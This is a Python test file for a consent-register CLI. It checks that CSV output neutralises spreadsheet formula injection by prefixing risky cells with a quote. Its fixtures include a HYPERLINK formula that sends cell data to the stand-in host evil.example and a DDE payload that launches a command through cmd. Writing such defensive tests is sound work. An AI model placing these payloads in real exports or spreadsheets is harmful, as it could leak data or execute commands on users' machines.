"""`check-consent --format csv` is opened in Excel: a register cell that starts like a formula
comes out as text, never as a formula the spreadsheet runs (issue 17)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from tests.conftest import app

HEADER = "log_id;unit;holder;kind;given;expires;birth_year;withdrawn;log_status\n"
HOSTILE = {
    "log_id": "-L-0001",
    "unit": '=HYPERLINK("https://evil.example/?"&A1,"Klikk")',
    "holder": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_cells_that_start_a_formula_come_out_as_text(
    runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    register = tmp_path / "samtykker.csv"
    line = f"{HOSTILE['log_id']};{HOSTILE['unit']};{HOSTILE['holder']};logg;2024-01-10;;;;\n"
    register.write_text(HEADER + line + "+L-0002;Skole;+47 Lærer;logg;2026-01-10;;;;\n")

    result = runner.invoke(
        app,
        ["check-consent", str(register), "--as-of", "2026-11-22", "--format", "csv",
         "--out", "funn.csv"],
    )  # fmt: skip

    assert result.exit_code == 1, result.output
    assert result.stderr == ""
    rows = list(csv.DictReader(io.StringIO((tmp_path / "funn.csv").read_text()), delimiter=";"))
    assert [(row["log_id"], row["unit"], row["holder"], row["problem"]) for row in rows] == [
        ("'" + HOSTILE["log_id"], "'" + HOSTILE["unit"], "'" + HOSTILE["holder"], "expired"),
    ]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), row
